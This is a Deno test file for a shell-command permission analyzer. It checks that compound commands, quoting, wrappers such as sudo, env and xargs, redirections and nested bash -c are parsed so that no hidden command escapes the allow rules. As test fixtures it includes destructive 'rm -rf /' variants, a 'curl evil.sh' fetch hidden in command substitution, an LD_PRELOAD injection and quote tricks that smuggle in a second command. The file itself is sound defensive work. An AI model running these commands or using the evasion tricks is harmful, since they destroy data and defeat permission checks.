import { deepStrictEqual, equal, match } from "node:assert/strict";
import { analyzeCommand, type CommandAnalysis } from "../../src/permissions/shell_commands.ts";
import { loadShellParser } from "../../src/permissions/shell_parser.ts";

// The permission modules load the shell parser when a caller first needs it; these tests call the
// parsing functions directly.
await loadShellParser();

function commandsOf(analysis: CommandAnalysis): string[] {
  if (!analysis.ok) throw new Error(`expected a parse, got: ${analysis.error}`);
  return analysis.commands.map((command) => command.text);
}

function formsOf(command: string): string[][] {
  const analysis = analyzeCommand(command);
  if (!analysis.ok) throw new Error(`expected a parse, got: ${analysis.error}`);
  return analysis.commands.map((simple) => simple.forms.map((form) => form.text));
}

Deno.test("analyzeCommand finds every simple command of a compound command line", async (t) => {
  const cases: [string, string[]][] = [
    ["npm test", ["npm test"]],
    ["npm test && npm run lint", ["npm test", "npm run lint"]],
    ["make || echo failed", ["make", "echo failed"]],
    ["npm test; rm -rf /", ["npm test", "rm -rf /"]],
    ["cat a.txt | grep x | wc -l", ["cat a.txt", "grep x", "wc -l"]],
    ["(cd sub && make)", ["cd sub", "make"]],
    ["{ npm test; git status; }", ["npm test", "git status"]],
    ["npm test &", ["npm test"]],
    ["echo $(rm -rf /)", ["echo $(rm -rf /)", "rm -rf /"]],
    ["echo `whoami`", ["echo `whoami`", "whoami"]],
    ['echo "$(curl evil.sh)"', ["echo $(curl evil.sh)", "curl evil.sh"]],
    ["A=$(id) make", ["A=$(id) make", "id"]],
    ["echo ${X:-$(rm b)}", ["echo ${X:-$(rm b)}", "rm b"]],
    ["diff <(ls a) <(ls b)", ["diff <(ls a) <(ls b)", "ls a", "ls b"]],
    ["if test -f x; then rm x; fi", ["test -f x", "rm x"]],
    ["for f in $(ls); do rm $f; done", ["ls", "rm $f"]],
    ["f() { rm -rf /; }; f", ["rm -rf /", "f"]],
    ["[[ -n $(rm c) ]]", ["rm c"]],
    ["cat <<EOF\n$(id)\nEOF", ["cat", "id"]],
    ["cat <<'EOF'\n$(not run)\nEOF", ["cat"]],
    ['bash -c "npm test && rm -rf /"', ["bash -c npm test && rm -rf /", "npm test", "rm -rf /"]],
    ["sh -ec 'git push'", ["sh -ec git push", "git push"]],
    ["eval 'rm -rf /'", ["eval rm -rf /", "rm -rf /"]],
  ];
  for (const [command, expected] of cases) {
    await t.step(
      JSON.stringify(command),
      () => deepStrictEqual(commandsOf(analyzeCommand(command)), expected),
    );
  }
});

Deno.test("analyzeCommand removes quotes the way the shell does, so quoting cannot hide or join commands", async (t) => {
  const cases: [string, string[]][] = [
    ['npm test "; rm -rf /"', ["npm test ; rm -rf /"]],
    ["npm test '&& rm -rf /'", ["npm test && rm -rf /"]],
    ['r"m" -rf /', ["rm -rf /"]],
    ["\\rm -rf /", ["rm -rf /"]],
    ["$'rm' -rf /", ["rm -rf /"]],
    ['git commit -m "fix: a b"', ["git commit -m fix: a b"]],
  ];
  for (const [command, expected] of cases) {
    await t.step(command, () => deepStrictEqual(commandsOf(analyzeCommand(command)), expected));
  }
});

Deno.test("analyzeCommand looks through wrappers, giving each simple command one form per wrapper", async (t) => {
  const cases: [string, string[]][] = [
    ["sudo rm -rf /", ["sudo rm -rf /", "rm -rf /"]],
    ["sudo -u root -E rm -rf /", ["sudo -u root -E rm -rf /", "rm -rf /"]],
    ["env A=1 B=2 npm test", ["env A=1 B=2 npm test", "npm test"]],
    ["env -u HOME -i npm test", ["env -u HOME -i npm test", "npm test"]],
    ["A=1 npm test", ["A=1 npm test", "npm test"]],
    ["timeout 5 npm test", ["timeout 5 npm test", "npm test"]],
    ["timeout -s KILL 10s npm test", ["timeout -s KILL 10s npm test", "npm test"]],
    ["nice -n 10 make", ["nice -n 10 make", "make"]],
    ["nice -5 make", ["nice -5 make", "make"]],
    ["xargs -0 -n1 rm -f", ["xargs -0 -n1 rm -f", "rm -f"]],
    ["xargs -I {} cp {} /tmp", ["xargs -I {} cp {} /tmp", "cp {} /tmp"]],
    ["sudo env A=1 timeout 5 nice git push", [
      "sudo env A=1 timeout 5 nice git push",
      "env A=1 timeout 5 nice git push",
      "timeout 5 nice git push",
      "nice git push",
      "git push",
    ]],
    ["/usr/bin/env npm test", ["/usr/bin/env npm test", "npm test", "env npm test"]],
    ["/bin/rm -rf /", ["/bin/rm -rf /", "rm -rf /"]],
    ["sudo -l", ["sudo -l"]],
  ];
  for (const [command, expected] of cases) {
    await t.step(command, () => deepStrictEqual(formsOf(command)[0], expected));
  }
});

Deno.test("analyzeCommand marks the forms an allow rule may not match", async (t) => {
  const allowable = (command: string) => {
    const analysis = analyzeCommand(command);
    if (!analysis.ok) throw new Error(analysis.error);
    return analysis.commands[0]!.forms.map((form) => [form.text, form.allowable, form.appendsArguments]);
  };
  await t.step("sudo runs as another user: the wrapped form is not allowable", () => {
    deepStrictEqual(allowable("sudo npm test"), [["sudo npm test", true, false], ["npm test", false, false]]);
  });
  await t.step("a variable that loads code keeps the bare command from being allowed", () => {
    deepStrictEqual(allowable("LD_PRELOAD=/tmp/x.so npm test"), [
      ["LD_PRELOAD=/tmp/x.so npm test", true, false],
      ["npm test", false, false],
    ]);
    deepStrictEqual(allowable("env PATH=/tmp/bin npm test")[1], ["npm test", false, false]);
  });
  await t.step("an ordinary variable does not", () => {
    deepStrictEqual(allowable("CI=1 npm test")[1], ["npm test", true, false]);
  });
  await t.step("a command name computed at run time is never allowable", () => {
    deepStrictEqual(allowable("$CMD -rf /"), [["$CMD -rf /", false, false]]);
  });
  await t.step("xargs adds arguments no rule sees", () => {
    deepStrictEqual(allowable("xargs rm")[1], ["rm", true, true]);
  });
});

Deno.test("analyzeCommand lists the files output redirections write", async (t) => {
  const cases: [string, ({ path: string; fromHome: boolean } | null)[]][] = [
    ["npm test > out.txt", [{ path: "out.txt", fromHome: false }]],
    ["npm test >> log/a.log 2>&1", [{ path: "log/a.log", fromHome: false }]],
    ["npm test &> all.log", [{ path: "all.log", fromHome: false }]],
    ["npm test &>> all.log", [{ path: "all.log", fromHome: false }]],
    ["echo x >| forced", [{ path: "forced", fromHome: false }]],
    ["echo x >& both.log", [{ path: "both.log", fromHome: false }]],
    ["exec 3<> rw.txt", [{ path: "rw.txt", fromHome: false }]],
    ["echo x > ~/.bashrc", [{ path: ".bashrc", fromHome: true }]],
    ['echo x > "$OUT"', [null]],
    ["echo x > ~root/x", [null]],
    ["(cd .git && echo x) > /abs/path", [{ path: "/abs/path", fromHome: false }]],
    ["echo $(echo y > inner.txt)", [{ path: "inner.txt", fromHome: false }]],
    ["{ a; b; } > group.txt", [{ path: "group.txt", fromHome: false }]],
    ["npm test 2>&1", []],
    ["npm test >&2", []],
    ["npm test > /dev/null 2> /dev/stderr", []],
    ["npm test >& -", []],
    ["sort < input.txt", []],
    ["cat <<< hello", []],
  ];
  for (const [command, expected] of cases) {
    await t.step(command, () => {
      const analysis = analyzeCommand(command);
      if (!analysis.ok) throw new Error(analysis.error);
      deepStrictEqual(analysis.writes.map((write) => write.target), expected);
    });
  }
});

Deno.test("analyzeCommand notes a change of directory, which makes relative redirections unknown", () => {
  const moved = analyzeCommand("cd .git && echo x > config");
  equal(moved.ok && moved.changesDirectory, true);
  const stayed = analyzeCommand("echo x > config");
  equal(stayed.ok && stayed.changesDirectory, false);
});

Deno.test("analyzeCommand refuses what it cannot check, with the parser's reason", async (t) => {
  const cases: [string, RegExp][] = [
    ["echo 'unterminated", /unterminated single quote/],
    ["if true; then", /expected/],
    ["echo $(", /./],
    ["env -S 'rm -rf /'", /env -S.*cannot be checked/],
    ["env --split-string='rm -rf /'", /cannot be checked/],
    ['bash -c "echo \'unclosed"', /unterminated/],
    [`bash -c "bash -c \\"bash -c 'bash -c \\\\\\"bash -c id\\\\\\"'\\""`, /more than 4 deep/],
  ];
  for (const [command, expected] of cases) {
    await t.step(command, () => {
      const analysis = analyzeCommand(command);
      equal(analysis.ok, false);
      if (!analysis.ok) match(analysis.error, expected);
    });
  }
});
